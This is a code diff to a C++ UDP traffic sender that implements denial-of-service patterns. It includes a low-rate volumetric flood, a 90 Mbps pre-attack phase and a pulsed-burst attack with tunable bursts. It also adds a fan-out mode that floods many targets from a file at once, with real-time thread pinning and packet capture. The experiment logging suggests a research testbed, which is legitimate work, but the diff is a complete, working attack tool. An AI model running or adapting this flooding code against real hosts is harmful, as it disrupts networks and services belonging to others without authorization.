@@ -7,12 +7,15 @@
 #include <iomanip>
 #include <atomic>
 #include <mutex>
+#include <algorithm>
+#include <cmath>
 #include "udp-socket.hh"
 #include "sender.hh"
 #include <unordered_map>
+#include <vector>
 
 // Declare unacknowledged_packets globally
-std::unordered_map<int, Packet> unacknowledged_packets; 
+std::unordered_map<int, PacketRecord> unacknowledged_packets; 
 std::mutex packet_mutex;
 std::mutex log_mutex;
 
@@ -36,6 +39,20 @@ bool initialize_sender(UDPSocket& socket) {
 size_t total_acked_bytes = 0;
 std::chrono::steady_clock::time_point ack_start_time = std::chrono::steady_clock::now();
 
+// Wakeup lateness of the send and ACK threads, reported with a real-time profile
+WakeupStats send_wakeup_stats;
+WakeupStats ack_wakeup_stats;
+
+// Capture of sent packets, open when -p is given
+PcapWriter pcap_writer;
+UDPSocket::SockAddress pcap_local_addr; // Source address written in the capture
+
+// Sleep until deadline and record how late the send thread woke up
+void sleep_until_deadline(std::chrono::steady_clock::time_point deadline) {
+    std::this_thread::sleep_until(deadline);
+    send_wakeup_stats.record(std::chrono::duration_cast<std::chrono::nanoseconds>(std::chrono::steady_clock::now() - deadline).count());
+}
+
 void handle_ack(const char* ack_data, std::ofstream& log_file) {
     int ack_number;
     memcpy(&ack_number, ack_data, HEADER_SIZE);
@@ -45,28 +62,136 @@ void handle_ack(const char* ack_data, std::ofstream& log_file) {
     {   std::lock_guard<std::mutex> lock(packet_mutex);
         auto it = unacknowledged_packets.find(ack_number);
         if (it != unacknowledged_packets.end()) {
-            total_acked_bytes += PACKET_SIZE;
-            unacknowledged_packets.erase(ack_number);
+            total_acked_bytes += it->second.size;
+            unacknowledged_packets.erase(it);
         }
     }
 }
 
-bool send_packet(UDPSocket& socket, const Packet& packet, const std::string& target_ip, int target_port) {
+// True only if the whole packet was handed to the kernel
+template <int N>
+bool send_packet(UDPSocket& socket, const Packet& packet, int packet_size, const UDPSocket::SockAddress& target_addr) {
     try {
-        socket.senddata(packet.data, PACKET_SIZE, target_ip, target_port);
-        return true;
+        const int len = PacketLength<N>::get(packet_size);
+        return socket.senddata(packet.data, len, &target_addr) == len;
     } catch (const std::exception& e) {
         std::cerr << "Failed to send packet: " << e.what() << std::endl;
         return false;
     }
 }
 
+// Fill the payload once; only the header changes between sends
+template <int N>
+void init_packet(Packet& packet, int packet_size) {
+    std::memset(packet.data + HEADER_SIZE, 'X', PacketLength<N>::get(packet_size) - HEADER_SIZE);
+}
+
+// Stamp the next sequence number on packet, track it as unacknowledged and
+// send it. Returns the number of bytes sent, or 0 if sending failed; a
+// failed packet is neither tracked nor captured and its sequence number is
+// reused.
+template <int N>
+int send_next_packet(UDPSocket& socket, Packet& packet, int packet_size, int& seq_number, const UDPSocket::SockAddress& target_addr) {
+    const int len = PacketLength<N>::get(packet_size);
+    memcpy(packet.data, &seq_number, HEADER_SIZE);
+    packet.send_time = std::chrono::steady_clock::now();
+
+    // Tracked before sending so an early ACK still finds it
+    {   std::lock_guard<std::mutex> lock(packet_mutex);
+        PacketRecord& record = unacknowledged_packets[seq_number];
+        record.size = len;
+        record.send_time = packet.send_time;
+    }
+
+    if (!send_packet<N>(socket, packet, packet_size, target_addr)) {
+        std::lock_guard<std::mutex> lock(packet_mutex);
+        unacknowledged_packets.erase(seq_number);
+        return 0;
+    }
+    seq_number++;
+    if (pcap_writer.is_open()) {
+        struct timespec sent_time;
+        clock_gettime(CLOCK_REALTIME, &sent_time);
+        pcap_writer.record(sent_time, pcap_local_addr, target_addr, packet.data, len);
+    }
+    return len;
+}
+
+// Reads one "<IP> <Port> [phase_offset_ms]" target per line; blank lines and
+// lines starting with '#' are skipped. Addresses are resolved here, once.
+// The offset may be fractional and must not be negative. Targets without
+// an offset are spread evenly over one burst period.
+bool load_fanout_targets(const std::string& filename, int burst_period_ms, std::vector<FanoutTarget>& targets) {
+    std::ifstream file(filename);
+    if (!file.is_open()) {
+        std::cerr << "Error: Unable to open targets file " << filename << std::endl;
+        return false;
+    }
+
+    std::vector<bool> explicit_offsets; // Whether each target's line gave an offset
+    std::string line;
+    while (std::getline(file, line)) {
+        std::istringstream fields(line);
+        std::string host;
+        int port;
+        if (!(fields >> host) || host[0] == '#') {
+            continue;
+        }
+        if (!(fields >> port)) {
+            std::cerr << "Error: Missing port for target " << host << " in " << filename << std::endl;
+            return false;
+        }
+
+        FanoutTarget target;
+        if (!UDPSocket::resolve(host, port, target.addr)) {
+            return false;
+        }
+        std::string offset;
+        if (fields >> offset) {
+            double phase_offset_ms;
+            size_t parsed = 0;
+            try {
+                phase_offset_ms = std::stod(offset, &parsed);
+            } catch (const std::exception& e) {
+                parsed = 0;
+            }
+            if (parsed != offset.size() || !(phase_offset_ms >= 0)) {
+                std::cerr << "Error: Invalid phase offset " << offset << " for target " << host << " in " << filename << std::endl;
+                return false;
+            }
+            target.phase_offset_ticks = static_cast<uint64_t>(phase_offset_ms * 1000 / FANOUT_TICK_US);
+            explicit_offsets.push_back(true);
+        } else {
+            target.phase_offset_ticks = 0;
+            explicit_offsets.push_back(false);
+        }
+        targets.push_back(target);
+    }
+
+    if (targets.empty()) {
+        std::cerr << "Error: No targets in " << filename << std::endl;
+        return false;
+    }
+
+    // Spread in ticks, not ms, so large target sets keep the wheel's resolution
+    uint64_t burst_period_ticks = static_cast<uint64_t>(burst_period_ms) * 1000 / FANOUT_TICK_US;
+    for (size_t i = 0; i < targets.size(); i++) {
+        if (!explicit_offsets[i]) {
+            targets[i].phase_offset_ticks = i * burst_period_ticks / targets.size();
+        }
+    }
+    return true;
+}
+
 double calculate_burst_rate(int burst_size, int burst_duration) {
     return static_cast<double>(burst_size) / burst_duration;
 }
 
-void low_rate_volumetric_attack(UDPSocket& socket, const std::string& target_ip, int target_port, double packet_interval, int duration, int& total_bytes_sent, std::ofstream& log_file) {
+template <int N>
+void low_rate_volumetric_attack(UDPSocket& socket, const UDPSocket::SockAddress& target_addr, int packet_size, double packet_interval, int duration, uint64_t& total_bytes_sent, std::ofstream& log_file) {
     int seq_number = 0;
+    Packet packet;
+    init_packet<N>(packet, packet_size);
     auto start_time = std::chrono::steady_clock::now();
     auto last_log_time = start_time;
 
@@ -79,21 +204,13 @@ void low_rate_volumetric_attack(UDPSocket& socket, const std::string& target_ip,
             break;
         }
 
-        Packet packet;
-        std::memset(packet.data + HEADER_SIZE, 'X', PAYLOAD_SIZE);
-        memcpy(packet.data, &seq_number, HEADER_SIZE);
-        packet.send_time = std::chrono::steady_clock::now();
-        
-        std::lock_guard<std::mutex> lock(packet_mutex);
-        unacknowledged_packets[seq_number] = packet;
-        seq_number++;
-
-        if (!send_packet(socket, packet, target_ip, target_port)) {
+        int bytes_sent = send_next_packet<N>(socket, packet, packet_size, seq_number, target_addr);
+        if (bytes_sent == 0) {
             std::cerr << "Error in sending packet. Retrying." << std::endl;
             continue;
         }
 
-        total_bytes_sent += PACKET_SIZE;
+        total_bytes_sent += bytes_sent;
 
         if (std::chrono::duration_cast<std::chrono::milliseconds>(now - last_log_time).count() >= 1) {
             log_file << std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count()
@@ -101,13 +218,16 @@ void low_rate_volumetric_attack(UDPSocket& socket, const std::string& target_ip,
             last_log_time = now;
         }
 
-        std::this_thread::sleep_for(std::chrono::duration<double, std::milli>(packet_interval));
+        sleep_until_deadline(std::chrono::steady_clock::now() + std::chrono::duration_cast<std::chrono::steady_clock::duration>(std::chrono::duration<double, std::milli>(packet_interval)));
     }
 }
 
-void pre_attack_phase(UDPSocket& socket, const std::string& target_ip, int target_port, int pre_attack_duration_ms, double pre_attack_rate_mbps, int& total_bytes_sent, std::ofstream& log_file, std::chrono::steady_clock::time_point& last_log_time, int& seq_number) {
-double packets_per_second = (pre_attack_rate_mbps * 1024 * 1024) / (PACKET_SIZE * 8);
+template <int N>
+void pre_attack_phase(UDPSocket& socket, const UDPSocket::SockAddress& target_addr, int packet_size, int pre_attack_duration_ms, double pre_attack_rate_mbps, uint64_t& total_bytes_sent, std::ofstream& log_file, std::chrono::steady_clock::time_point& last_log_time, int& seq_number) {
+double packets_per_second = (pre_attack_rate_mbps * 1024 * 1024) / (PacketLength<N>::get(packet_size) * 8);
     double packet_interval_ms = 1000.0 / packets_per_second;
+    Packet packet;
+    init_packet<N>(packet, packet_size);
     
     auto start_time = std::chrono::steady_clock::now();
 
@@ -124,21 +244,13 @@ double packets_per_second = (pre_attack_rate_mbps * 1024 * 1024) / (PACKET_SIZE
             break;
         }
 
-        Packet packet;
-        std::memset(packet.data + HEADER_SIZE, 'X', PAYLOAD_SIZE);
-        memcpy(packet.data, &seq_number, HEADER_SIZE);
-        packet.send_time = std::chrono::steady_clock::now();
-
-        std::lock_guard<std::mutex> lock(packet_mutex);
-        unacknowledged_packets[seq_number] = packet;
-        seq_number++;
-
-        if (!send_packet(socket, packet, target_ip, target_port)) {
+        int bytes_sent = send_next_packet<N>(socket, packet, packet_size, seq_number, target_addr);
+        if (bytes_sent == 0) {
             std::cerr << "Error: Failed to send packet in pre-attack phase. Retrying." << std::endl;
             continue;
         }
 
-        total_bytes_sent += PACKET_SIZE;
+        total_bytes_sent += bytes_sent;
 
         // Log total bytes sent every millisecond
         if (std::chrono::duration_cast<std::chrono::milliseconds>(now - last_log_time).count() >= 1) {
@@ -148,30 +260,282 @@ double packets_per_second = (pre_attack_rate_mbps * 1024 * 1024) / (PACKET_SIZE
         }
 
         // Sleep for the calculated interval
-        std::this_thread::sleep_for(std::chrono::duration<double, std::milli>(packet_interval_ms));
+        sleep_until_deadline(std::chrono::steady_clock::now() + std::chrono::duration_cast<std::chrono::steady_clock::duration>(std::chrono::duration<double, std::milli>(packet_interval_ms)));
     }
 
     log_file << "End of pre attack phase. Total bytes sent: " << total_bytes_sent << std::endl;
     std::cout << "Pre-attack phase ended. Moving to custom attack..." << std::endl;
 }
 
+template <int N>
+void custom_attack_phase(UDPSocket& socket, const UDPSocket::SockAddress& target_addr, int packet_size, int burst_size, int burst_duration, int inter_burst_time, int duration, bool sleep_pacing, std::chrono::steady_clock::time_point start_time, uint64_t& total_bytes_sent, std::ofstream& log_file, int& seq_number) {
+    double burst_rate = calculate_burst_rate(burst_size, burst_duration);
+    double burst_pkt_tx_delay = PacketLength<N>::get(packet_size) / burst_rate;
+    auto burst_pkt_tx_interval = std::chrono::duration_cast<std::chrono::steady_clock::duration>(std::chrono::duration<double, std::milli>(burst_pkt_tx_delay));
+
+    auto last_burst_time = std::chrono::steady_clock::now();
+    auto last_send_time = std::chrono::steady_clock::now();
+    auto last_log_time = std::chrono::steady_clock::now();
+    auto next_send_time = last_send_time; // Absolute deadline of the next packet when sleep pacing
+    int burst_bytes_sent = 0;
+    bool send_burst = false;
+    Packet packet;
+    init_packet<N>(packet, packet_size);
+
+    while (true) {
+        auto now = std::chrono::steady_clock::now();
+        auto elapsed_time = std::chrono::duration_cast<std::chrono::seconds>(now - start_time).count();
+
+        if (elapsed_time >= duration) {
+            std::cout << "Experiment duration reached. Stopping sender." << std::endl;
+            break;
+        }
+        
+        //debug statement
+        //std::cout << " Inter burst time: " << inter_burst_time << ", At time: " << std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count() <<std::endl;
+        
+        if (send_burst == false && std::chrono::duration_cast<std::chrono::milliseconds>(now - last_burst_time).count() >= inter_burst_time) {
+            //std::cout << " Condition time: " << std::chrono::duration_cast<std::chrono::milliseconds>(now - last_burst_time).count() << std::endl;
+            //std::cout<< "Last burst time (in if loop): " << std::chrono::duration_cast<std::chrono::milliseconds>(last_burst_time.time_since_epoch()).count() << std::endl;
+            send_burst = true;
+            last_burst_time = now;
+            next_send_time = now;
+            burst_bytes_sent = 0;
+        }
+
+        //if (send_burst && std::chrono::duration_cast<std::chrono::milliseconds>(now - last_send_time).count() > burst_pkt_tx_delay) {
+        // Sleep pacing sends against absolute deadlines, so wakeup lateness
+        // does not add up over a burst
+        bool packet_due = sleep_pacing ? now >= next_send_time
+                                       : std::chrono::duration<double, std::milli>(now - last_send_time).count() > burst_pkt_tx_delay;
+        if (send_burst && packet_due) {
+            if(std::chrono::duration_cast<std::chrono::milliseconds>(now - last_burst_time).count() > burst_duration) {
+                send_burst = false;
+                //std::cout<< "Last burst time (in if-if loop): " << std::chrono::duration_cast<std::chrono::milliseconds>(last_burst_time.time_since_epoch()).count() << std::endl;
+            }
+            else {
+                if (!sleep_pacing && burst_bytes_sent > 0) {
+                    // Pacing busy-waits, so lateness is how long after the packet was due this pass ran
+                    send_wakeup_stats.record(std::chrono::duration_cast<std::chrono::nanoseconds>(now - last_send_time - std::chrono::duration<double, std::milli>(burst_pkt_tx_delay)).count());
+                }
+                int bytes_sent = send_next_packet<N>(socket, packet, packet_size, seq_number, target_addr);
+                if (bytes_sent == 0) {
+                    std::cerr << "Error in sending packet. Aborting current burst." << std::endl;
+                    send_burst = false;
+                    continue;
+                }
+                //std::cout << "Debug print" << std::endl;
+                total_bytes_sent += bytes_sent;
+                burst_bytes_sent += bytes_sent;
+
+                last_send_time = now;
+                next_send_time += burst_pkt_tx_interval;
+
+                if (burst_bytes_sent >= burst_size) {
+                    burst_bytes_sent = 0;
+                    last_burst_time = now;
+                    send_burst = false;
+                    std::cout<< "Last burst time (in else loop): " << std::chrono::duration_cast<std::chrono::milliseconds>(last_burst_time.time_since_epoch()).count() << std::endl;
+                }
+            }
+        }
+        
+        auto now_ms = std::chrono::steady_clock::now();
+        if (std::chrono::duration_cast<std::chrono::milliseconds>(now_ms - last_log_time).count() >= 1) {
+            log_file << std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count()
+                    << " : " << total_bytes_sent << " : " << total_acked_bytes << std::endl;
+            last_log_time = now_ms;
+        }
+
+        if (sleep_pacing) {
+            // Sleep until the next packet or burst is due instead of spinning, so a
+            // SCHED_FIFO send thread is not throttled by the kernel's RT runtime limit
+            auto deadline = send_burst ? next_send_time
+                                       : last_burst_time + std::chrono::milliseconds(inter_burst_time);
+            if (deadline > std::chrono::steady_clock::now()) {
+                sleep_until_deadline(deadline);
+            }
+        }
+    }
+}
+
+// Sends the custom burst pattern to every fan-out target at once. Each
+// target's next send or burst start is a timer on a hierarchical timing
+// wheel, so the cost per tick does not grow with the number of targets.
+// A target's next burst starts inter_burst_time after its last one ended.
+// There is no pre-attack phase in this mode.
+template <int N>
+void fanout_attack_phase(UDPSocket& socket, std::vector<FanoutTarget>& targets, int packet_size, int burst_size, int burst_duration, int inter_burst_time, int duration, std::chrono::steady_clock::time_point start_time, uint64_t& total_bytes_sent, std::ofstream& log_file, int& seq_number) {
+    const double ticks_per_ms = 1000.0 / FANOUT_TICK_US;
+    const std::chrono::microseconds tick(FANOUT_TICK_US);
+    double burst_rate = calculate_burst_rate(burst_size, burst_duration);
+    double burst_pkt_tx_ticks = PacketLength<N>::get(packet_size) / burst_rate * ticks_per_ms;
+    uint64_t burst_ticks = static_cast<uint64_t>(burst_duration * ticks_per_ms);
+    uint64_t inter_burst_ticks = static_cast<uint64_t>(inter_burst_time * ticks_per_ms);
+
+    TimingWheel wheel;
+    for (size_t i = 0; i < targets.size(); i++) {
+        targets[i].in_burst = false;
+        targets[i].timer.id = i;
+        wheel.schedule(&targets[i].timer, targets[i].phase_offset_ticks);
+    }
+
+    Packet packet;
+    init_packet<N>(packet, packet_size);
+
+    std::cout << "Starting fan-out attack on " << targets.size() << " targets." << std::endl;
+    log_file << "Fan-out attack phase: " << targets.size() << " targets" << std::endl;
+
+    auto phase_start_time = std::chrono::steady_clock::now();
+    auto last_log_time = phase_start_time;
+
+    while (true) {
+        auto now = std::chrono::steady_clock::now();
+        auto elapsed_time = std::chrono::duration_cast<std::chrono::seconds>(now - start_time).count();
+
+        if (elapsed_time >= duration) {
+            std::cout << "Experiment duration reached. Stopping fan-out attack." << std::endl;
+            break;
+        }
+
+        // Run every tick up to the current time, at most one ms worth per
+        // pass so an overloaded sender still logs and stops on time
+        uint64_t now_tick = std::min<uint64_t>((now - phase_start_time) / tick, wheel.now() + static_cast<uint64_t>(ticks_per_ms));
+        while (wheel.now() < now_tick) {
+            WheelTimer* timer = wheel.advance();
+            while (timer != NULL) {
+                WheelTimer* next = timer->next; // schedule() relinks timer
+                FanoutTarget& target = targets[timer->id];
+                uint64_t tick_now = wheel.now();
+
+                if (!target.in_burst) {
+                    target.in_burst = true;
+                    target.burst_bytes_sent = 0;
+                    target.burst_end_tick = tick_now + burst_ticks;
+                    target.next_send_tick = tick_now;
+                }
+
+                // Send every packet due by this tick; above one packet per
+                // tick that is more than one, so the burst rate is kept
+                bool burst_over = tick_now >= target.burst_end_tick;
+                while (!burst_over && target.next_send_tick <= tick_now) {
+                    int bytes_sent = send_next_packet<N>(socket, packet, packet_size, seq_number, target.addr);
+                    if (bytes_sent == 0) {
+                        std::cerr << "Error in sending packet. Aborting current burst for target " << UDPSocket::decipher_socket_addr(target.addr) << "." << std::endl;
+                    }
+                    total_bytes_sent += bytes_sent;
+                    target.burst_bytes_sent += bytes_sent;
+                    target.next_send_tick += burst_pkt_tx_ticks;
+                    burst_over = bytes_sent == 0 || target.burst_bytes_sent >= burst_size;
+                }
+
+                if (burst_over) {
+                    target.in_burst = false;
+                    wheel.schedule(&target.timer, tick_now + inter_burst_ticks);
+                } else {
+                    wheel.schedule(&target.timer, static_cast<uint64_t>(std::ceil(target.next_send_tick)));
+                }
+                timer = next;
+            }
+        }
+
+        if (std::chrono::duration_cast<std::chrono::milliseconds>(now - last_log_time).count() >= 1) {
+            log_file << std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count()
+                     << " : " << total_bytes_sent << " : " << total_acked_bytes << std::endl;
+            last_log_time = now;
+        }
+
+        sleep_until_deadline(phase_start_time + tick * (wheel.now() + 1));
+    }
+}
+
+// Runs the selected attack with the send path specialized for packet size N
+template <int N>
+struct RunAttack {
+    static void run(UDPSocket& socket, const AttackConfig& config, std::chrono::steady_clock::time_point start_time, uint64_t& total_bytes_sent, std::ofstream& log_file, std::chrono::steady_clock::time_point& last_log_time, int& seq_number) {
+        int packet_size = config.packet_size;
+        if (!config.fanout_targets.empty()) {
+            std::vector<FanoutTarget> targets = config.fanout_targets;
+            fanout_attack_phase<N>(socket, targets, packet_size, config.burst_size, config.burst_duration, config.inter_burst_time, config.duration, start_time, total_bytes_sent, log_file, seq_number);
+        } else if (config.attack_type == "-v") {
+            double packet_interval = 1.0 / ((9 * 1024 * 1024 / PacketLength<N>::get(packet_size)) / 8);
+            low_rate_volumetric_attack<N>(socket, config.target_addr, packet_size, packet_interval, config.duration, total_bytes_sent, log_file);
+        } else {
+            int pre_attack_duration_ms = 4000;
+            double pre_attack_rate_mbps = 90;
+            pre_attack_phase<N>(socket, config.target_addr, packet_size, pre_attack_duration_ms, pre_attack_rate_mbps, total_bytes_sent, log_file, last_log_time, seq_number);
+            custom_attack_phase<N>(socket, config.target_addr, packet_size, config.burst_size, config.burst_duration, config.inter_burst_time, config.duration, config.sleep_pacing, start_time, total_bytes_sent, log_file, seq_number);
+        }
+    }
+};
+
 int main(int argc, char *argv[]) {
-    if (argc < 8 || argc > 9) {
-        std::cerr << "Usage: " << argv[0] << " <IP> <Port> <burst_size> <burst_duration> <inter_burst_time> <logfile> <duration> [-c | -v]" << std::endl;
+    if (argc < 8) {
+        std::cerr << "Usage: " << argv[0] << " <IP> <Port> <burst_size> <burst_duration> <inter_burst_time> <logfile> <duration> [-c | -v] [-s <packet_size>] [-f <targets_file>] [-r <rt_profile>] [-p <pcap_file>] [-P <snaplen>]" << std::endl;
         return 1;
     }
 
-    std::string target_ip = argv[1];
-    int target_port = std::stoi(argv[2]);
-    int burst_size = std::stoi(argv[3]);
-    int burst_duration = std::stoi(argv[4]);
-    int inter_burst_time = std::stoi(argv[5]);
+    AttackConfig config;
+    config.target_ip = argv[1];
+    config.target_port = std::stoi(argv[2]);
+    config.burst_size = std::stoi(argv[3]);
+    config.burst_duration = std::stoi(argv[4]);
+    config.inter_burst_time = std::stoi(argv[5]);
     std::string logfile_name = argv[6];
-    int duration = std::stoi(argv[7]);
-    std::string attack_type = argv[8];
+    config.duration = std::stoi(argv[7]);
+    config.attack_type = "-c";
+    config.packet_size = DEFAULT_PACKET_SIZE;
+    std::string targets_file;
+    RTProfile rt_profile;
+    std::string pcap_file;
+    int pcap_snaplen = DEFAULT_PCAP_SNAPLEN;
+
+    for (int i = 8; i < argc; i++) {
+        std::string arg = argv[i];
+        if (arg == "-c" || arg == "-v") {
+            config.attack_type = arg;
+        } else if (arg == "-s" && i + 1 < argc) {
+            config.packet_size = std::stoi(argv[++i]);
+        } else if (arg == "-f" && i + 1 < argc) {
+            targets_file = argv[++i];
+        } else if (arg == "-r" && i + 1 < argc) {
+            if (!parse_rt_profile(argv[++i], RT_SENDER, rt_profile)) {
+                return 1;
+            }
+            // A SCHED_FIFO send thread sharing a CPU with the equal priority ACK thread starves it
+            if (rt_profile.fifo_priority > 0 && rt_profile.send_cpu >= 0 && rt_profile.send_cpu == rt_profile.ack_cpu) {
+                std::cerr << "Error: With fifo, the send and ACK threads must be pinned to different CPUs." << std::endl;
+                return 1;
+            }
+        } else if (arg == "-p" && i + 1 < argc) {
+            pcap_file = argv[++i];
+        } else if (arg == "-P" && i + 1 < argc) {
+            pcap_snaplen = std::stoi(argv[++i]);
+        } else {
+            std::cerr << "Error: Invalid option " << arg << ". Use '-c' for custom attack, '-v' for volumetric attack, '-s <packet_size>' to set the packet size, '-f <targets_file>' for fan-out attack, '-r <rt_profile>' for real-time execution or '-p <pcap_file>' [-P <snaplen>] to capture sent packets." << std::endl;
+            return 1;
+        }
+    }
+
+    if (!valid_packet_size(config.packet_size)) {
+        std::cerr << "Error: Packet size must be between " << MIN_PACKET_SIZE << " and " << MAX_PACKET_SIZE << " bytes." << std::endl;
+        return 1;
+    }
+
+    // A busy-waiting SCHED_FIFO send thread gets throttled, see custom_attack_phase.
+    // Any other profile keeps busy-waiting so the attack pattern is unchanged.
+    config.sleep_pacing = rt_profile.send_cpu >= 0 && rt_profile.fifo_priority > 0;
+
+    if (!targets_file.empty() && config.attack_type == "-v") {
+        std::cerr << "Error: Fan-out attack (-f) runs the custom burst pattern and cannot be combined with '-v'." << std::endl;
+        return 1;
+    }
+
+    if (!UDPSocket::resolve(config.target_ip, config.target_port, config.target_addr)) {
+        return 1;
+    }
 
-    if (attack_type != "-c" && attack_type != "-v") {
-        std::cerr << "Error: Invalid attack type. Use '-c' for custom attack or '-v' for volumetric attack." << std::endl;
+    if (!targets_file.empty() && !load_fanout_targets(targets_file, config.burst_duration + config.inter_burst_time, config.fanout_targets)) {
         return 1;
     }
 
@@ -186,32 +550,59 @@ int main(int argc, char *argv[]) {
         return 1;
     }
 
-    if (socket.bindsocket("0.0.0.0", target_port, target_port + 1) != 0) {
+    if (socket.bindsocket("0.0.0.0", config.target_port, config.target_port + 1) != 0) {
         std::cerr << "Error: Failed to bind socket for receiving ACKs." << std::endl;
         return 1;
     }
 
+    if (!pcap_file.empty()) {
+        if (!UDPSocket::local_address(config.target_addr, pcap_local_addr) || !pcap_writer.open(pcap_file, pcap_snaplen)) {
+            return 1;
+        }
+        pcap_local_addr.sin_port = htons(config.target_port + 1);
+    }
+
+    if (rt_profile.enabled) {
+        if (socket.set_buffer_sizes(rt_profile.sndbuf, rt_profile.rcvbuf) != 0 || socket.enable_rx_timestamps() != 0) {
+            return 1;
+        }
+        if (!apply_process_profile(rt_profile)) {
+            return 1;
+        }
+    }
+
     std::atomic<bool> stop_ack_listener(false);
 
     auto start_time = std::chrono::steady_clock::now();
-    int total_bytes_sent = 0;
+    uint64_t total_bytes_sent = 0;
     int seq_number = 0;
     auto last_log_time = std::chrono::steady_clock::now();
 
-    log_file << "Burst Size: " << burst_size 
-             << ", Burst Duration: " << burst_duration
-             << ", Inter Burst Time: " << inter_burst_time
-             << ", Duration of Experiment(s): " << duration << std::endl;
+    log_file << "Burst Size: " << config.burst_size 
+             << ", Burst Duration: " << config.burst_duration
+             << ", Inter Burst Time: " << config.inter_burst_time
+             << ", Duration of Experiment(s): " << config.duration
+             << ", Packet Size: " << config.packet_size << std::endl;
+    if (rt_profile.enabled) {
+        log_file << "RT Profile: " << rt_profile.describe() << std::endl;
+    }
     log_file << "Log started at " << std::chrono::duration_cast<std::chrono::milliseconds>(start_time.time_since_epoch()).count() << " ms" << std::endl;
 
 	std::thread ack_listener([&]() {
     	char ack_buffer[sizeof(int)];
+    	struct timespec rx_time;
+    	if (rt_profile.prefault) {
+        	prefault_stack();
+    	}
     	while (!stop_ack_listener) {
         	try {
             	UDPSocket::SockAddress sender_addr = {};
             	// Changed from -1 (infinite) to 100ms timeout
-            	int bytes_received = socket.receivedata(ack_buffer, sizeof(ack_buffer), 100, sender_addr);
+            	int bytes_received = socket.receivedata(ack_buffer, sizeof(ack_buffer), 100, sender_addr, rt_profile.enabled ? &rx_time : NULL);
             	if (bytes_received == sizeof(int)) {
+                	if (rt_profile.enabled && rx_time.tv_sec != 0) {
+                    	ack_wakeup_stats.record(rx_wakeup_lateness_ns(rx_time));
+                	}
                 	handle_ack(ack_buffer, log_file);
             	}
         	} catch (const std::exception& e) {
@@ -223,97 +614,18 @@ int main(int argc, char *argv[]) {
     	std::cout << "ACK listener thread terminated." << std::endl;
 	});
 
-    auto actual_start_time = std::chrono::steady_clock::now();
-
-    if (attack_type == "-v") {
-        double packet_interval = 1.0 / ((9 * 1024 * 1024 / PACKET_SIZE) / 8);
-        low_rate_volumetric_attack(socket, target_ip, target_port, packet_interval, duration, total_bytes_sent, log_file);
-    } else {
-        int pre_attack_duration_ms = 4000;
-        double pre_attack_rate_mbps = 90;
-        pre_attack_phase(socket, target_ip, target_port, pre_attack_duration_ms, pre_attack_rate_mbps, total_bytes_sent, log_file, last_log_time, seq_number);
-    
-        double burst_rate = calculate_burst_rate(burst_size, burst_duration);
-        double burst_pkt_tx_delay = PACKET_SIZE / burst_rate;
-
-        auto last_burst_time = std::chrono::steady_clock::now();
-        auto last_send_time = std::chrono::steady_clock::now();
-        auto last_log_time = std::chrono::steady_clock::now();
-        int burst_bytes_sent = 0;
-        bool send_burst = false;
-        int interval_bytes_sent = 0;
-        long last_burst_end_time = 0;
-
-        int packets_sent_in_burst = 0; // Initialize burst packet counter
-
+    // The send thread is only pinned now, so the ACK thread does not inherit
+    // its CPU or scheduling policy
+    if (rt_profile.enabled && (!apply_thread_profile(ack_listener.native_handle(), rt_profile.ack_cpu, rt_profile.fifo_priority, "ACK")
+                               || !apply_thread_profile(pthread_self(), rt_profile.send_cpu, rt_profile.fifo_priority, "send"))) {
+        stop_ack_listener = true;
+        ack_listener.join();
+        return 1;
+    }
 
-        while (true) {
-            auto now = std::chrono::steady_clock::now();
-            long current_time_ms = std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count();
-            auto elapsed_time = std::chrono::duration_cast<std::chrono::seconds>(now - start_time).count();
+    auto actual_start_time = std::chrono::steady_clock::now();
 
-            if (elapsed_time >= duration) {
-                std::cout << "Experiment duration reached. Stopping sender." << std::endl;
-                break;
-            }
-            
-            //debug statement
-            //std::cout << " Inter burst time: " << inter_burst_time << ", At time: " << std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count() <<std::endl;
-            
-            if (send_burst == false && std::chrono::duration_cast<std::chrono::milliseconds>(now - last_burst_time).count() >= inter_burst_time) {
-                //std::cout << " Condition time: " << std::chrono::duration_cast<std::chrono::milliseconds>(now - last_burst_time).count() << std::endl;
-                //std::cout<< "Last burst time (in if loop): " << std::chrono::duration_cast<std::chrono::milliseconds>(last_burst_time.time_since_epoch()).count() << std::endl;
-                send_burst = true;
-                last_burst_time = now;
-                last_burst_end_time = current_time_ms;
-                burst_bytes_sent = 0;
-            }
-
-            //if (send_burst && std::chrono::duration_cast<std::chrono::milliseconds>(now - last_send_time).count() > burst_pkt_tx_delay) {
-            if (send_burst && (std::chrono::duration<double, std::milli>(now - last_send_time).count() > burst_pkt_tx_delay)) {
-                if(std::chrono::duration_cast<std::chrono::milliseconds>(now - last_burst_time).count() > burst_duration) {
-                    send_burst = false;
-                    //std::cout<< "Last burst time (in if-if loop): " << std::chrono::duration_cast<std::chrono::milliseconds>(last_burst_time.time_since_epoch()).count() << std::endl;
-                }
-                else {
-                    Packet packet;
-                    std::memset(packet.data + HEADER_SIZE, 'X', PAYLOAD_SIZE);
-                    memcpy(packet.data, &seq_number, HEADER_SIZE);
-                    packet.send_time = std::chrono::steady_clock::now();
-
-                    std::lock_guard<std::mutex> lock(packet_mutex);
-                    unacknowledged_packets[seq_number] = packet;
-                    seq_number++;
-
-                    if (!send_packet(socket, packet, target_ip, target_port)) {
-                        std::cerr << "Error in sending packet. Aborting current burst." << std::endl;
-                        send_burst = false;
-                        continue;
-                    }
-                    //std::cout << "Debug print" << std::endl;
-                    total_bytes_sent += PACKET_SIZE;
-                    burst_bytes_sent += PACKET_SIZE;
-                    interval_bytes_sent += PACKET_SIZE;
-
-                    last_send_time = now;
-
-                    if (burst_bytes_sent >= burst_size) {
-                        burst_bytes_sent = 0;
-                        last_burst_time = now;
-                        send_burst = false;
-                        std::cout<< "Last burst time (in else loop): " << std::chrono::duration_cast<std::chrono::milliseconds>(last_burst_time.time_since_epoch()).count() << std::endl;
-                    }
-                }
-            }
-            
-            auto now_ms = std::chrono::steady_clock::now();
-            if (std::chrono::duration_cast<std::chrono::milliseconds>(now_ms - last_log_time).count() >= 1) {
-                log_file << std::chrono::duration_cast<std::chrono::milliseconds>(now.time_since_epoch()).count()
-                        << " : " << total_bytes_sent << " : " << total_acked_bytes << std::endl;
-                last_log_time = now_ms;
-            }
-        }
-    }
